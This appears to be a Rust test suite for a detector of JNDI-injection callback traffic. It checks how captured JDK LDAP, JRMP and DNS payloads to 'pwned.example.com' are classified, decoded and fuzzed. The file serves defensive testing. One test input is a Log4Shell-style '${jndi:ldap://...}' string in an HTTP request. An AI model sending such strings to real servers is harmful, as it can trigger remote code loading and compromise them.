//! The corpus captured from the JDK (`testdata/*.hex`, see `testdata/README.md`): each vector
//! decodes to what the JDK sent, the kernel's classifier names its protocol, and no prefix or
//! one-byte mutation of any vector, or of traffic that is none of ours, makes a parser panic.
//! The parsers' own edge cases are tested next to them.

use detector_common::{classify_payload, PROTO_DNS, PROTO_LDAP, PROTO_NONE, PROTO_RMI, SAMPLE_LEN};

use super::{
    dns::{self, DnsQuery},
    indicator,
    jrmp::{self, JrmpHeader, JrmpProtocol},
    ldap::{self, LdapOp, LdapRequest},
    Details,
};

/// Bytes of a `testdata/*.hex` file: hex pairs separated by white space; `#` starts a
/// comment line. Checks the length the comment gives (`# N bytes, ...`).
fn hex(text: &str) -> Vec<u8> {
    let bytes: Vec<u8> = text
        .lines()
        .filter(|line| !line.starts_with('#'))
        .flat_map(str::split_whitespace)
        .map(|pair| u8::from_str_radix(pair, 16).expect("a hex byte"))
        .collect();
    let stated = text.lines().find_map(|line| {
        line.strip_prefix("# ")?
            .split_once(" bytes, ")?
            .0
            .parse()
            .ok()
    });
    assert_eq!(Some(bytes.len()), stated, "length in the comment");
    bytes
}

/// One captured payload and the transport it was sent over.
struct Vector {
    name: &'static str,
    bytes: Vec<u8>,
    udp: bool,
}

macro_rules! vector {
    ($name:literal, $udp:expr) => {
        Vector {
            name: $name,
            bytes: hex(include_str!(concat!("testdata/", $name, ".hex"))),
            udp: $udp,
        }
    };
}

const TCP: bool = false;
const UDP: bool = true;

fn corpus() -> Vec<Vector> {
    vec![
        vector!("ldap_bind_anonymous", TCP),
        vector!("ldap_bind_simple", TCP),
        vector!("ldap_search_lookup", TCP),
        vector!("ldap_search_long_dn", TCP),
        vector!("ldap_abandon", TCP),
        vector!("ldap_unbind", TCP),
        vector!("jrmp_header", TCP),
        vector!("jrmp_client_endpoint", TCP),
        vector!("jrmp_call_lookup", TCP),
        vector!("dns_lookup_txt", UDP),
        vector!("dns_attributes_a", UDP),
        vector!("dns_tcp_a", TCP),
        vector!("dns_long_name", UDP),
    ]
}

fn bytes_of(name: &str) -> Vec<u8> {
    corpus()
        .into_iter()
        .find(|v| v.name == name)
        .map(|v| v.bytes)
        .expect("a vector of the corpus")
}

/// What the kernel would send to userspace: the first [`SAMPLE_LEN`] bytes.
fn sampled(bytes: &[u8]) -> &[u8] {
    &bytes[..bytes.len().min(SAMPLE_LEN)]
}

/// What the kernel's classifier says about a payload, given as the kernel gives it.
fn classify(bytes: &[u8], udp: bool) -> u32 {
    let sample = sampled(bytes);
    let mut buf = [0u8; SAMPLE_LEN];
    buf[..sample.len()].copy_from_slice(sample);
    classify_payload(&buf, sample.len(), udp)
}

// === the kernel's view ===

#[test]
fn classifier_and_indicator_agree_with_the_corpus() {
    let long_dn = format!("cn={}", "a".repeat(SAMPLE_LEN - 15 - 3));
    let long_name = format!("{x}.{x}.{x}.{}", "y".repeat(51), x = "x".repeat(63));
    let expected: [(&str, u32, Option<String>); 13] = [
        (
            "ldap_bind_anonymous",
            PROTO_LDAP,
            Some(r#"bind dn="""#.into()),
        ),
        (
            "ldap_bind_simple",
            PROTO_LDAP,
            Some(r#"bind dn="cn=svc,dc=example,dc=com""#.into()),
        ),
        (
            "ldap_search_lookup",
            PROTO_LDAP,
            Some(r#"search base="cn=pwned,dc=example,dc=com" filter=(objectClass=*)"#.into()),
        ),
        (
            "ldap_search_long_dn",
            PROTO_LDAP,
            Some(format!(r#"search base="{long_dn}" (truncated)"#)),
        ),
        // Abandon is not among the operations the classifier looks for: it never opens a
        // connection.
        ("ldap_abandon", PROTO_NONE, None),
        ("ldap_unbind", PROTO_LDAP, Some("unbind".into())),
        (
            "jrmp_header",
            PROTO_RMI,
            Some("JRMP v2 stream protocol".into()),
        ),
        // The later writes of an RMI connection carry no header.
        ("jrmp_client_endpoint", PROTO_NONE, None),
        ("jrmp_call_lookup", PROTO_NONE, None),
        (
            "dns_lookup_txt",
            PROTO_DNS,
            Some("query TXT pwned.example.com".into()),
        ),
        (
            "dns_attributes_a",
            PROTO_DNS,
            Some("query A pwned.example.com".into()),
        ),
        (
            "dns_tcp_a",
            PROTO_DNS,
            Some("query A pwned.example.com".into()),
        ),
        (
            "dns_long_name",
            PROTO_DNS,
            Some(format!("query ? {long_name} (truncated)")),
        ),
    ];
    let corpus = corpus();
    assert_eq!(corpus.len(), expected.len());
    for (vector, (name, class, text)) in corpus.iter().zip(expected) {
        assert_eq!(vector.name, name);
        let got = classify(&vector.bytes, vector.udp);
        assert_eq!(got, class, "classify_payload({name})");
        assert_eq!(
            indicator(got, sampled(&vector.bytes), vector.udp),
            text,
            "indicator({name})"
        );
    }
}

// === each vector, field by field ===

#[test]
fn ldap_binds() {
    let anonymous = ldap::parse_request(&bytes_of("ldap_bind_anonymous"));
    assert_eq!(
        anonymous,
        Some(LdapRequest {
            message_id: 1,
            op: LdapOp::Bind {
                version: 3,
                name: String::new(),
                simple: true,
            },
            truncated: false,
        })
    );
    let simple = ldap::parse_request(&bytes_of("ldap_bind_simple")).expect("a bind");
    assert_eq!(
        simple,
        LdapRequest {
            message_id: 1,
            op: LdapOp::Bind {
                version: 3,
                name: "cn=svc,dc=example,dc=com".into(),
                simple: true,
            },
            truncated: false,
        }
    );
    assert!(!format!("{simple:?} {simple}").contains("not-a-real-password"));
}

#[test]
fn ldap_search_of_a_jndi_lookup() {
    assert_eq!(
        ldap::parse_request(&bytes_of("ldap_search_lookup")),
        Some(LdapRequest {
            message_id: 2,
            op: LdapOp::Search {
                base_dn: "cn=pwned,dc=example,dc=com".into(),
                scope: Some(0),
                filter: Some("(objectClass=*)".into()),
                attributes: vec![],
            },
            truncated: false,
        })
    );
}

#[test]
fn ldap_search_cut_in_the_base_dn() {
    let bytes = bytes_of("ldap_search_long_dn");
    let whole = ldap::parse_request(&bytes).expect("a search");
    let LdapOp::Search {
        base_dn,
        scope,
        filter,
        ..
    } = whole.op
    else {
        panic!("not a search: {whole:?}");
    };
    assert_eq!(base_dn, format!("cn={},dc=example,dc=com", "a".repeat(300)));
    assert_eq!(
        (scope, filter.as_deref()),
        (Some(0), Some("(objectClass=*)"))
    );
    assert!(!whole.truncated);

    // 15 bytes of headers, then the DN up to the end of the sample.
    let cut = ldap::parse_request(sampled(&bytes)).expect("a cut search");
    assert_eq!(
        cut,
        LdapRequest {
            message_id: 2,
            op: LdapOp::Search {
                base_dn: format!("cn={}", "a".repeat(SAMPLE_LEN - 15 - 3)),
                scope: None,
                filter: None,
                attributes: vec![],
            },
            truncated: true,
        }
    );
}

#[test]
fn ldap_abandon_and_unbind() {
    let abandon = ldap::parse_request(&bytes_of("ldap_abandon")).expect("an abandon");
    assert_eq!(
        (abandon.message_id, &abandon.op),
        (2, &LdapOp::Other { tag: 0x50 })
    );
    // Asked to, the indicator decodes it all the same.
    assert_eq!(
        indicator(PROTO_LDAP, &bytes_of("ldap_abandon"), false).as_deref(),
        Some("abandon")
    );
    let unbind = ldap::parse_request(&bytes_of("ldap_unbind")).expect("an unbind");
    assert_eq!((unbind.message_id, unbind.op), (4, LdapOp::Unbind));
}

#[test]
fn jrmp_header_and_lookup_call() {
    assert_eq!(
        jrmp::parse_header(&bytes_of("jrmp_header")),
        Some(JrmpHeader {
            version: 2,
            protocol: JrmpProtocol::Stream,
            call: None,
        })
    );
    assert_eq!(jrmp::parse_header(&bytes_of("jrmp_client_endpoint")), None);
    assert_eq!(jrmp::parse_call(&bytes_of("jrmp_client_endpoint")), None);

    let call = jrmp::parse_call(&bytes_of("jrmp_call_lookup")).expect("a call");
    assert!(call.is_registry_lookup());
    assert_eq!(
        (call.object, call.operation, call.hash),
        (0, 2, 0x4415_4dc9_d4e6_3bdf)
    );
    assert_eq!(
        (call.name.as_deref(), call.truncated),
        (Some("Exploit"), false)
    );
    assert_eq!(call.to_string(), r#"registry lookup "Exploit""#);

    // The JDK never sends the two together (the stream protocol waits for the server's
    // acknowledgement), but a single-op client would: header and call from the corpus.
    let mut joined = bytes_of("jrmp_header");
    joined[6] = 0x4c;
    joined.extend(bytes_of("jrmp_call_lookup"));
    assert_eq!(
        indicator(classify(&joined, false), &joined, false).as_deref(),
        Some(r#"JRMP v2 single-op protocol, registry lookup "Exploit""#)
    );
}

#[test]
fn dns_queries() {
    let query = |name: &str, udp: bool| dns::parse_query(&bytes_of(name), !udp);
    assert_eq!(
        query("dns_lookup_txt", UDP),
        Some(DnsQuery {
            id: 0xd940,
            name: "pwned.example.com".into(),
            qtype: 16,
            qtype_name: "TXT",
            truncated: false,
        })
    );
    assert_eq!(
        query("dns_attributes_a", UDP),
        Some(DnsQuery {
            id: 0xe80e,
            name: "pwned.example.com".into(),
            qtype: 1,
            qtype_name: "A",
            truncated: false,
        })
    );
    assert_eq!(
        query("dns_tcp_a", TCP),
        Some(DnsQuery {
            id: 0xaad7,
            name: "pwned.example.com".into(),
            qtype: 1,
            qtype_name: "A",
            truncated: false,
        })
    );
    // Over TCP without the prefix, or over UDP with it: not a query.
    assert_eq!(query("dns_tcp_a", UDP), None);
    assert_eq!(query("dns_attributes_a", TCP), None);

    let long = bytes_of("dns_long_name");
    let whole = dns::parse_query(&long, false).expect("a query");
    assert_eq!(
        (whole.name.len(), whole.qtype, whole.truncated),
        (253, 1, false)
    );
    let cut = dns::parse_query(sampled(&long), false).expect("a cut query");
    assert_eq!(
        (cut.name.len(), cut.qtype, cut.truncated),
        (3 * 64 + 51, 0, true)
    );
    assert!(whole.name.starts_with(&cut.name));
}

// === traffic that is none of ours ===

/// A deterministic stand-in for random bytes (xorshift64).
fn noise(seed: u64, len: usize) -> Vec<u8> {
    let mut state = seed;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state.to_be_bytes()[0]
        })
        .collect()
}

fn others() -> Vec<(&'static str, Vec<u8>)> {
    let mut client_hello = vec![
        0x16, 0x03, 0x01, 0x00, 0xf8, 0x01, 0x00, 0x00, 0xf4, 0x03, 0x03,
    ];
    client_hello.extend(noise(1, 32));
    client_hello.extend([0x20]);
    client_hello.extend(noise(2, 32));
    vec![
        (
            "HTTP GET",
            b"GET /a?x=${jndi:ldap://e/x} HTTP/1.1\r\nHost: x\r\n\r\n".to_vec(),
        ),
        ("TLS ClientHello", client_hello),
        // bindResponse(success) and searchResDone(success), as a server answers.
        (
            "LDAP bind response",
            vec![
                0x30, 0x0c, 0x02, 0x01, 0x01, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00,
            ],
        ),
        (
            "LDAP search done",
            vec![
                0x30, 0x0c, 0x02, 0x01, 0x02, 0x65, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00,
            ],
        ),
        // The server's ProtocolAck to a JRMP header.
        (
            "JRMP ack",
            b"\x4e\x00\x09127.0.0.1\x00\x00\xd4\x31".to_vec(),
        ),
        // A DNS response to dns_attributes_a (no answer, NXDOMAIN).
        ("DNS response", {
            let mut r = bytes_of("dns_attributes_a");
            r[2] = 0x81;
            r[3] = 0x83;
            r
        }),
        ("noise 1", noise(0x9e37_79b9_7f4a_7c15, 64)),
        ("noise 2", noise(42, SAMPLE_LEN)),
        ("noise 3", noise(7, 300)),
    ]
}

#[test]
fn other_traffic_is_not_classified_or_decoded() {
    for (name, bytes) in others() {
        for udp in [false, true] {
            assert_eq!(
                classify(&bytes, udp),
                PROTO_NONE,
                "classify_payload({name}, udp {udp})"
            );
            assert_eq!(dns::parse_query(&bytes, !udp), None, "{name}");
        }
        assert_eq!(ldap::parse_request(&bytes), None, "{name}");
        assert_eq!(jrmp::parse_header(&bytes), None, "{name}");
        assert_eq!(jrmp::parse_call(&bytes), None, "{name}");
    }
}

// === robustness ===

/// Runs every parser on `bytes`, and renders what they return.
fn decode_all(bytes: &[u8]) {
    for class in [PROTO_NONE, PROTO_LDAP, PROTO_RMI, PROTO_DNS, 99] {
        for udp in [false, true] {
            if let Some(details) = Details::parse(class, bytes, udp) {
                assert!(!details.to_string().is_empty());
                assert!(!details.to_string().contains('\n'));
            }
        }
    }
    if let Some(call) = jrmp::parse_call(bytes) {
        let _ = call.to_string();
    }
}

#[test]
fn every_prefix_decodes_to_nothing_or_to_part_of_the_whole() {
    for vector in corpus() {
        let bytes = &vector.bytes;
        let ldap = ldap::parse_request(bytes);
        let dns = dns::parse_query(bytes, !vector.udp);
        let jrmp = jrmp::parse_header(bytes);
        for len in 0..=bytes.len() {
            let prefix = &bytes[..len];
            decode_all(prefix);
            let name = vector.name;
            if let (Some(whole), Some(part)) = (&ldap, ldap::parse_request(prefix)) {
                assert_eq!(part.message_id, whole.message_id, "{name}[..{len}]");
                assert_eq!(
                    std::mem::discriminant(&part.op),
                    std::mem::discriminant(&whole.op),
                    "{name}[..{len}]"
                );
                assert_eq!(part.truncated, len < bytes.len(), "{name}[..{len}]");
            }
            if let (Some(whole), Some(part)) = (&dns, dns::parse_query(prefix, !vector.udp)) {
                assert_eq!(part.id, whole.id, "{name}[..{len}]");
                assert!(whole.name.starts_with(&part.name), "{name}[..{len}]");
                if !part.truncated {
                    assert_eq!(part, *whole, "{name}[..{len}]");
                }
            }
            if let (Some(whole), Some(part)) = (&jrmp, jrmp::parse_header(prefix)) {
                assert_eq!(
                    (part.version, part.protocol),
                    (whole.version, whole.protocol)
                );
            }
        }
    }
    for (_, bytes) in others() {
        for len in 0..=bytes.len() {
            decode_all(&bytes[..len]);
        }
    }
}

#[test]
fn one_byte_mutations_do_not_panic() {
    for vector in corpus() {
        let mut bytes = vector.bytes.clone();
        for i in 0..bytes.len() {
            let original = bytes[i];
            for value in [0x00, 0x01, 0x3f, 0x7f, 0x80, 0xc0, 0xff, original ^ 0x20] {
                bytes[i] = value;
                decode_all(&bytes);
                decode_all(sampled(&bytes));
            }
            bytes[i] = original;
        }
    }
}
